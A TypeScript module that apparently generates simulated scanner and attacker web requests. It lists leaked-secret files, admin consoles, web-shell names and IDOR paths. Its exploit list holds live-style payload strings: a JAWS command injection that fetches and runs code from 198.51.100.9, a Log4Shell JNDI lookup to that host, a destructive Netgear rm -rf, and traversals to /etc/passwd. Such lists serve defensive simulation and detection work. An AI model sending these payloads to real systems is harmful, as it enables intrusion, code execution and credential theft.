// What scanners and slow enumerators ask for: files that leak secrets when left in the web root,
// admin consoles, and the paths of well-known exploitable products (each entry names the product
// it checks for). Written from what these products expose, as a defender would list them.
import type { Rng } from '../../rng.js';

/** Files and directories that should never be served. */
export const SENSITIVE = [
  '/.env',
  '/.env.production',
  '/.git/config',
  '/.git/HEAD',
  '/.svn/entries',
  '/.DS_Store',
  '/.aws/credentials',
  '/.htpasswd',
  '/config.php.bak',
  '/wp-config.php.bak',
  '/wp-config.php~',
  '/backup.zip',
  '/backup.tar.gz',
  '/db.sql',
  '/dump.sql',
  '/database.sql.gz',
  '/site.tar.gz',
  '/config.json',
  '/config.yml',
  '/settings.py',
  '/sftp-config.json',
  '/.vscode/sftp.json',
  '/phpinfo.php',
  '/info.php',
  '/test.php',
  '/server-status',
  '/server-info',
  '/.well-known/security.txt',
  '/crossdomain.xml',
  '/web.config',
  '/docker-compose.yml',
  '/Dockerfile',
  '/package.json',
  '/composer.json',
  '/id_rsa',
  '/.bash_history',
  '/error.log',
  '/debug.log',
];

/** Admin and management interfaces. */
export const CONSOLES = [
  '/admin',
  '/admin/',
  '/admin/login',
  '/administrator/',
  '/wp-admin/',
  '/wp-login.php',
  '/phpmyadmin/',
  '/pma/',
  '/adminer.php',
  '/manager/html',
  '/jenkins/login',
  '/console/',
  '/actuator/env',
  '/actuator/health',
  '/actuator/heapdump',
  '/druid/index.html',
  '/solr/admin/info/system',
  '/grafana/login',
  '/kibana/app/home',
  '/owa/auth/logon.aspx',
  '/remote/login',
  '/vpn/index.html',
  '/oauth2/idpresponse',
];

/** Paths of products with known remote-code-execution or disclosure flaws. */
export const EXPLOITS = [
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', // PHPUnit eval-stdin
  '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP', // ThinkPHP 5
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', // Apache 2.4.49 path normalisation
  '/HNAP1/', // D-Link routers
  '/boaform/admin/formLogin', // Boa-based ONT routers
  '/GponForm/diag_Form?images/', // GPON home gateways
  '/cgi-bin/luci/;stok=/locale', // OpenWrt LuCI
  '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*', // Netgear
  '/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.9/jaws;sh+/tmp/jaws', // JAWS web servers (DVRs)
  '/_ignition/execute-solution', // Laravel Ignition
  '/api/jsonws/invoke', // Liferay
  '/ws/v1/cluster/apps/new-application', // Hadoop YARN
  '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php', // WP File Manager
  '/mgmt/tm/util/bash', // F5 BIG-IP iControl
  '/+CSCOE+/logon.html', // Cisco ASA
  '/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/', // Pulse Secure
  '/?XDEBUG_SESSION_START=phpstorm', // exposed Xdebug
  '/console/css/%252e%252e%252fconsole.portal', // WebLogic
  '/autodiscover/autodiscover.json?@zdi/Powershell', // Exchange ProxyShell
  '/solr/admin/cores?action=CREATE&name=$' + '{jndi:ldap://198.51.100.9:1389/a}', // Log4Shell via Solr
];

/** A directory brute-forcer's word list: common names with common extensions. */
const WORDS = [
  'old',
  'new',
  'dev',
  'test',
  'temp',
  'tmp',
  'backup',
  'bak',
  'api',
  'private',
  'upload',
  'uploads',
  'files',
  'data',
  'export',
  'internal',
  'staging',
  'v1',
  'v2',
  'beta',
  'demo',
  'cms',
  'portal',
  'secret',
  'logs',
];
const EXTENSIONS = [
  '',
  '/',
  '.php',
  '.zip',
  '.bak',
  '.old',
  '.txt',
  '.json',
  '.sql',
  '.tar.gz',
  '.asp',
  '.jsp',
];

export function bruteForcePath(rng: Rng): string {
  return `/${rng.pick(WORDS)}${rng.pick(EXTENSIONS)}`;
}

/** Web shells: where uploads land, names shells are known by, and extensions that still execute. */
const SHELL_DIRS = [
  '',
  '',
  '/wp-content/uploads',
  '/wp-content/uploads/2024/04',
  '/uploads',
  '/upload',
  '/images',
  '/assets',
  '/tmp',
  '/.well-known',
  '/wp-content/plugins/hello-dolly',
  '/cgi-bin',
  '/files',
];
const SHELL_NAMES = [
  'shell',
  'cmd',
  'c99',
  'r57',
  'wso',
  'wso2',
  'b374k',
  'alfa',
  'up',
  'upload',
  'x',
  '1',
  '404',
  'mini',
  'bypass',
  'fm',
  'priv8',
  'sh',
  'leaf',
  'indoxploit',
  'marijuana',
  'xleet',
  'gel4y',
  'about',
  'wp-info',
];
const SHELL_EXTENSIONS = [
  '.php',
  '.php',
  '.php',
  '.php5',
  '.phtml',
  '.php7',
  '.PhP',
  '.php.jpg',
  '.asp',
  '.aspx',
  '.jsp',
  '.jspx',
];
/** What a shell's parameter is asked to run. */
const SHELL_COMMANDS = ['id', 'whoami', 'uname%20-a', 'ls', 'pwd', 'cat%20/etc/passwd', 'echo%20vuln'];

export function shellPath(rng: Rng): string {
  return `${rng.pick(SHELL_DIRS)}/${rng.pick(SHELL_NAMES)}${rng.pick(SHELL_EXTENSIONS)}`;
}

/** A query that a probe adds to a shell path to see whether it runs commands. */
export function shellQuery(rng: Rng): string {
  return `${rng.pick(['cmd', 'c', 'exec', 'command', 'x', 'act'])}=${rng.pick(SHELL_COMMANDS)}`;
}

/** Records one id at a time, hoping the API forgets to check whose they are. */
export function idorPath(rng: Rng, n: number): string {
  return rng.pick([
    `/api/v1/orders/${100_000 + n}`,
    `/api/v1/users/${n}`,
    `/account/invoices/INV-2024-${String(n).padStart(6, '0')}.pdf`,
  ]);
}
